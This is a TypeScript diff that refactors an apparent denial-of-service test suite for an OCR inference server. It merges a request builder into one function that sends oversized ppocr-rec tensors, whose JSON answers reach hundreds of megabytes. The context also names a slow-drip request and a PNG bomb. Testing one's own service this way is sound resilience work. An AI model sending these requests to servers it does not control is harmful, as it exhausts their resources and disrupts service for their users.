@@ -63,16 +63,17 @@ async function grpcInfer(t: Target, message: Buffer): Promise<Answer> {
   };
 }
 
-/** A ppocr-rec request of width `w` (FP32 0.5 everywhere), JSON or binary in, JSON or binary out. */
-function recRequest(w: number, binary: boolean): { body: Buffer; headers: Record<string, string> } {
+/** Sends ppocr-rec a request of width `w` (FP32 0.5 everywhere), JSON in and out, or binary in and out. */
+function recInfer(t: Target, w: number, binary: boolean): Promise<Answer> {
   const n = 3 * 48 * w;
   const shape = [1, 3, 48, w];
   if (!binary) {
     const data = `[${'0.5,'.repeat(n - 1)}0.5]`;
-    return {
-      body: Buffer.from(`{"inputs":[{"name":"x","datatype":"FP32","shape":${JSON.stringify(shape)},"data":${data}}]}`),
-      headers: { 'content-type': 'application/json' },
-    };
+    return json(
+      t,
+      'ppocr-rec',
+      `{"inputs":[{"name":"x","datatype":"FP32","shape":${JSON.stringify(shape)},"data":${data}}]}`,
+    );
   }
   const header = Buffer.from(
     JSON.stringify({
@@ -80,10 +81,14 @@ function recRequest(w: number, binary: boolean): { body: Buffer; headers: Record
       parameters: { binary_data_output: true },
     }),
   );
-  return {
-    body: Buffer.concat([header, Buffer.from(new Float32Array(n).fill(0.5).buffer)]),
-    headers: { 'content-type': 'application/octet-stream', 'inference-header-content-length': String(header.length) },
-  };
+  return post(
+    `${t.http}/v2/models/ppocr-rec/infer`,
+    Buffer.concat([header, Buffer.from(new Float32Array(n).fill(0.5).buffer)]),
+    {
+      'content-type': 'application/octet-stream',
+      'inference-header-content-length': String(header.length),
+    },
+  );
 }
 
 /** Promises a body of 100,000 bytes and sends one byte every `everyMs` until the server answers or closes. */
@@ -185,28 +190,19 @@ export const ATTACKS: readonly Attack[] = [
     id: 'rec-20000-json',
     what: 'ppocr-rec [1,3,48,20000], JSON out (373 MB of JSON)',
     quick: true,
-    send: (t) => {
-      const { body, headers } = recRequest(20000, false);
-      return post(`${t.http}/v2/models/ppocr-rec/infer`, body, headers);
-    },
+    send: (t) => recInfer(t, 20000, false),
   },
   {
     id: 'rec-30000-json',
     what: 'ppocr-rec [1,3,48,30000], JSON out',
     quick: false,
-    send: (t) => {
-      const { body, headers } = recRequest(30000, false);
-      return post(`${t.http}/v2/models/ppocr-rec/infer`, body, headers);
-    },
+    send: (t) => recInfer(t, 30000, false),
   },
   {
     id: 'rec-20000-binary',
     what: 'ppocr-rec [1,3,48,20000], binary in and out (66 MB answer)',
     quick: false,
-    send: (t) => {
-      const { body, headers } = recRequest(20000, true);
-      return post(`${t.http}/v2/models/ppocr-rec/infer`, body, headers);
-    },
+    send: (t) => recInfer(t, 20000, true),
   },
   {
     id: 'png-bomb',
